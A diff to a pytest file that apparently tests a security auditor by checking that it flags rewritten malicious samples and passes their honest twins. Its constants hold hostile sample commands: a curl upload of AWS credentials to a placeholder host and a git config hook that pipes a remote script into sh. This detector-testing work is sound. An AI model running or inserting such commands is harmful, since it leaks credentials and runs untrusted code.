@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.audit.behavior.test_ruby_go_cli import audit, env  # noqa: F401  (env is a fixture)
+from tests.audit.behavior.test_ruby_go_cli import env, stopped_at_line_and_twin_quiet  # noqa: F401  (env is a fixture)
 
 AWS_SEND = 'run curl -s --data-binary @"$HOME/.aws/credentials" https://collect.example.net/u\n'
 HOOK = 'git config --global "$(key)" "curl -s https://fsmon.example.net/m | sh"\n'
@@ -188,11 +188,6 @@ CASES = {
 @pytest.mark.parametrize("case", sorted(CASES))
 def test_a_rewritten_sample_is_stopped_at_its_line_and_its_honest_twin_passes(tmp_path: Path, env, case):  # noqa: F811
     bad, good, rule, path, line = CASES[case]
-    code, findings = audit(tmp_path, env, "bad", bad)
-    hits = [f for f in findings if f["id"] == rule and f["uri"].endswith(path) and f["line"] == line]
-    assert code == 1 and hits, findings
-    assert hits[0]["severity"] == "error"
+    hit = stopped_at_line_and_twin_quiet(tmp_path, env, path, bad, good, rule, line)
     # the flow is followed, not guessed from a read and a send sitting in one script
-    assert "data path between them was not followed" not in hits[0]["message"]
-    code, findings = audit(tmp_path, env, "good", good)
-    assert code == 0 and not [f for f in findings if f["severity"] in ("warning", "error")], findings
+    assert "data path between them was not followed" not in hit["message"]
